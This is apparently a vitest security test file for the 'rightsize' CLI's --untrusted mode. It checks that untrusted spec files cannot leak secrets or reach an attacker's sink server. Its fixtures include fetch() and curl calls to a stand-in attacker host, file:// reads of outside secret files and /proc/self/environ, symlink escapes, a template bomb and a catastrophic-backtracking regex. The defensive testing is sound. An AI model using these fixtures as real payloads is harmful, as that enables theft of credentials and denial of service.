import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { Io } from '../../src/cli/command.ts'
import { runCli } from '../../src/cli/program.ts'

/** In files outside the folder of the spec, and in the environment: nobody may receive it. */
const content = 'TOP-SECRET-CONTENT'
const key = 'sk-super-secret-key-of-the-user'

const home = mkdtempSync(join(tmpdir(), 'rightsize-untrusted-'))
afterAll(() => rmSync(home, { recursive: true, force: true }))
const put = (path: string, text: string): void => {
  mkdirSync(dirname(join(home, path)), { recursive: true })
  writeFileSync(join(home, path), text)
}
put('secret.txt', content)
put(
  'secret.csv',
  `id,text,label\n${Array.from({ length: 30 }, (_, i) => `${i},${content} ${i},a`).join('\n')}\n`,
)
put('secret.jsonl', Array.from({ length: 30 }, (_, i) => `{"id":"r${i}","output":"a"}`).join('\n'))
put('folder/a.txt', content)

/** The attacker's server counts requests; the allowed one answers, and its `/away` redirects to the other. */
const received = { sink: [] as string[], allowed: [] as string[] }
const sink = createServer((request, response) => {
  received.sink.push(`${request.method} ${request.url}`)
  response.end('{"data":[]}')
})
const allowed = createServer(async (request, response) => {
  let body = ''
  for await (const piece of request) body += String(piece)
  received.allowed.push(`${JSON.stringify(request.headers)} ${body}`)
  if (request.url?.startsWith('/away')) {
    response.writeHead(307, { location: `${at(sink)}/v1/chat/completions` }).end()
    return
  }
  const message = { role: 'assistant', content: 'a' }
  response.setHeader('content-type', 'application/json')
  response.end(
    JSON.stringify({
      data: [],
      model: 'm-2026-01-01',
      choices: [{ message, finish_reason: 'stop' }],
    }),
  )
})
const port = (server: typeof sink): number => (server.address() as AddressInfo).port
const at = (server: typeof sink): string => `http://127.0.0.1:${port(server)}`
beforeAll(async () => {
  for (const server of [sink, allowed])
    await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
})
afterAll(() => {
  for (const server of [sink, allowed]) {
    server.closeAllConnections()
    server.close()
  }
})

const rows = Array.from({ length: 30 }, (_, i) => `r${i},text ${i},a`)
let count = 0
/** A folder with a data set, stored answers, and the spec. */
function folderOf(spec: string, links: Readonly<Record<string, string>> = {}): string {
  const name = `pr${count++}`
  put(`${name}/d.csv`, `id,text,label\n${rows.join('\n')}\n`)
  put(`${name}/good.jsonl`, rows.map((_, i) => `{"id":"r${i}","output":"a"}`).join('\n'))
  put(
    `${name}/code.mjs`,
    `await fetch('${at(sink)}')\nexport default () => 'a'\nexport const score = () => 1\n`,
  )
  for (const [link, target] of Object.entries(links))
    symlinkSync(join(home, target), join(home, name, link))
  put(`${name}/rightsize.yaml`, spec)
  return join(home, name)
}

interface Parts {
  readonly data?: string
  readonly candidate?: string
  readonly more?: string
}
const specOf = ({ data = 'd.csv', candidate = '', more = '' }: Parts): string =>
  `task: t
dataset: { test: ${data}, input: text, expected: label, id: id }
candidates:
  - { id: good, runtime: replay, model: good.jsonl }
${candidate === '' ? '' : `  - ${candidate}\n`}regime: full
bar: { floor: 0.5 }
${more}`

async function run(
  folder: string,
  words: readonly string[] = [],
  command: readonly string[] = ['run'],
) {
  received.sink.length = 0
  received.allowed.length = 0
  let text = ''
  const say = (line: string): void => {
    text += `${line}
`
  }
  const io: Io = {
    ...{ out: say, err: say, live: say, tty: false, asks: false, columns: 100, color: false },
    ...{ cwd: folder, signal: new AbortController().signal, stopping: () => undefined },
    env: {
      ...{ PATH: process.env['PATH'], OPENAI_API_KEY: key, OTHER_SECRET: key },
      ...{ PROMETHEUS_URL: at(sink), OLLAMA_HOST: at(sink), OPENAI_BASE_URL: at(sink) },
    },
  }
  const all = [...command, '--untrusted', '--allow-host', `127.0.0.1:${port(allowed)}`, ...words]
  const code = await runCli(all, io)
  return { code, text, leaked: [text, ...received.allowed].join('\n') }
}

const openai = (more: string): string => `{ id: bad, runtime: openai, model: m, ${more} }`
const good = () => `baseUrl: "${at(allowed)}/v1"`

type Way = readonly [
  what: string,
  spec: () => Parts,
  code: string,
  links?: Readonly<Record<string, string>>,
]
const ways: readonly Way[] = [
  [
    'an address of the spec',
    () => ({ candidate: openai(`baseUrl: "${at(sink)}/v1"`) }),
    'UNTRUSTED_HOST',
  ],
  [
    'an address without its port',
    () => ({ candidate: openai('baseUrl: "http://127.0.0.1/v1"') }),
    'UNTRUSTED_HOST',
  ],
  [
    'a redirect of an allowed host',
    () => ({ candidate: openai(`baseUrl: "${at(allowed)}/away"`) }),
    'REPLY_REDIRECTED',
  ],
  [
    'the address in OPENAI_BASE_URL',
    () => ({ candidate: openai('settings: {}') }),
    'UNTRUSTED_HOST|ENDPOINT_',
  ],
  [
    'the address in OLLAMA_HOST',
    () => ({ candidate: '{ id: bad, runtime: ollama, model: m }' }),
    'UNTRUSTED_HOST',
  ],
  [
    'a judge',
    () => ({
      more: `scorer: { name: judge, options: { model: m, rubric: r, baseUrl: "${at(sink)}/v1" } }`,
    }),
    'SCORER_FAILED',
  ],
  [
    'an embedding scorer',
    () => ({
      more: `scorer: { name: embedding-similarity, options: { model: m, runtime: openai, baseUrl: "${at(sink)}/v1" } }`,
    }),
    'SCORER_FAILED.*which is not allowed',
  ],
  [
    'a Prometheus query',
    () => ({ candidate: openai(`${good()}, energy: { prometheus: shellyplug_power }`) }),
    'METER_UNAVAILABLE',
  ],
  [
    'a key of the environment',
    () => ({ candidate: openai(`${good()}, apiKeyEnv: OTHER_SECRET`) }),
    'ENDPOINT_KEY_MISSING',
  ],
  [
    'a prompt by an absolute path',
    () => ({ candidate: openai(`${good()}, prompt: "file://${home}/secret.txt"`) }),
    'UNTRUSTED_FILE',
  ],
  [
    'a prompt by a relative path',
    () => ({ candidate: openai(`${good()}, prompt: "file://../secret.txt"`) }),
    'UNTRUSTED_FILE',
  ],
  [
    'a prompt by a link',
    () => ({ candidate: openai(`${good()}, prompt: "file://p.txt"`) }),
    'UNTRUSTED_FILE',
    { 'p.txt': 'secret.txt' },
  ],
  [
    'a system prompt',
    () => ({ candidate: openai(`${good()}, system: "file://../secret.txt"`) }),
    'UNTRUSTED_FILE',
  ],
  [
    'the environment of the process',
    () => ({ candidate: openai(`${good()}, prompt: "file:///proc/self/environ"`) }),
    'UNTRUSTED_FILE',
  ],
  ['data outside', () => ({ data: '../secret.csv', candidate: openai(good()) }), 'UNTRUSTED_FILE'],
  [
    'data by a link',
    () => ({ data: 'x.csv', candidate: openai(good()) }),
    'UNTRUSTED_FILE',
    { 'x.csv': 'secret.csv' },
  ],
  [
    'a folder of data by a link',
    () => ({ data: 'x', candidate: openai(good()) }),
    'UNTRUSTED_FILE',
    { x: 'folder' },
  ],
  ['data by an address', () => ({ data: `"${at(sink)}/d.csv"` }), 'DATA_MISSING'],
  ['data on a hub', () => ({ data: '"hf:user/data"' }), 'DATA_'],
  [
    'answers outside',
    () => ({ candidate: '{ id: bad, runtime: replay, model: ../secret.jsonl }' }),
    'UNTRUSTED_FILE',
  ],
  [
    'a module',
    () => ({ candidate: '{ id: bad, runtime: module, model: ./code.mjs }' }),
    'RUNTIME_NO_EXEC',
  ],
  [
    'a program',
    () => ({
      candidate: `{ id: bad, runtime: command, command: [node, -e, "fetch('${at(sink)}')"] }`,
    }),
    'RUNTIME_NO_EXEC',
  ],
  [
    'an adapter',
    () => ({ candidate: '{ id: bad, runtime: ./code.mjs, model: x }' }),
    'RUNTIME_NO_EXEC',
  ],
  ['a scorer', () => ({ more: 'scorer: ./code.mjs' }), 'SCORER_REFUSED'],
  [
    'a program as a meter',
    () => ({ candidate: openai(`${good()}, energy: { external: [curl, "${at(sink)}"] }`) }),
    'RUNTIME_NO_EXEC',
  ],
  [
    'a template without an end',
    () => ({
      candidate: openai(
        `${good()}, prompt: "{% for i in range(30000000) %}{% for j in range(30) %}x{% endfor %}{% endfor %}"`,
      ),
    }),
    'PROMPT_BROKEN',
  ],
  [
    'a pattern with look-ahead',
    () => ({ more: 'scorer: { name: regex, options: { pattern: "^(?=(a+)+$)" } }' }),
    'UNTRUSTED_PATTERN',
  ],
]

describe('--untrusted', () => {
  test.each(ways.map((way) => ({ what: way[0], way })))(
    'nothing is carried out by $what',
    async ({ way: [, spec, code, links] }) => {
      const { text, leaked } = await run(folderOf(specOf(spec()), links))
      expect(text).toMatch(new RegExp(code))
      expect(received.sink).toEqual([])
      expect(leaked).not.toContain(content)
      expect(leaked).not.toContain(key)
      expect(text).not.toContain('INTERNAL')
    },
  )

  test('nothing is carried out by a promptfoo file', async () => {
    const folder = folderOf('')
    const file = (provider: string, prompt: string) =>
      `prompts: ["${prompt}"]\nproviders:\n  - ${provider}\nenv: { HTTP_PROXY: "${at(sink)}", OPENAI_API_KEY: x }\ntests:\n  - vars: { text: a }\n    assert: [{ type: equals, value: a }]\n`
    const away = `{ id: "openai:chat:m", config: { apiBaseUrl: "${at(sink)}/v1" } }`
    const home = `{ id: "openai:chat:m", config: { apiBaseUrl: "${at(allowed)}/v1", apiKeyEnvar: OTHER_SECRET } }`
    for (const text of [
      file(away, '{{text}}'),
      file(home, 'file://../secret.txt'),
      file(home, '{{text}}'),
    ]) {
      writeFileSync(join(folder, 'p.yaml'), text)
      const { code, leaked } = await run(folder, ['p.yaml', '--floor', '0.5'])
      expect(code).toBe(3)
      expect(received.sink).toEqual([])
      expect(leaked).not.toContain(content)
      expect(leaked).not.toContain(key)
    }
  })

  test('what is allowed works: an allowed host with an allowed key', async () => {
    const folder = folderOf(specOf({ candidate: openai(`${good()}, apiKeyEnv: OTHER_SECRET`) }))
    const { code, text } = await run(folder, ['--allow-env', 'OTHER_SECRET'])
    expect(text).not.toMatch(/error [A-Z]/)
    expect(code).toBeLessThan(3)
    expect(received.allowed.filter((one) => one.includes(key)).length).toBeGreaterThan(0)
    expect(text).not.toContain(key)
    expect(received.sink).toEqual([])
  })

  test('flags that contradict it are refused', async () => {
    const folder = folderOf(specOf({}))
    expect((await run(folder, ['--trust'])).text).toContain('FLAG_UNUSED')
  })

  test.each([
    [['plan']],
    [['check']],
    [['shrink', 'm', '--task', 'rightsize.yaml']],
    [['train', 'linear', 'x.csv']],
  ])('%j knows it, too', async (command) => {
    const folder = folderOf(specOf({ data: '../secret.csv' }), { 'x.csv': 'secret.csv' })
    const { code, text, leaked } = await run(folder, [], command)
    expect(text).not.toMatch(/FLAG_UNKNOWN|unknown flag/i)
    expect(received.sink).toEqual([])
    expect(leaked).not.toContain(content)
    expect(code).toBeGreaterThan(0)
  })
})
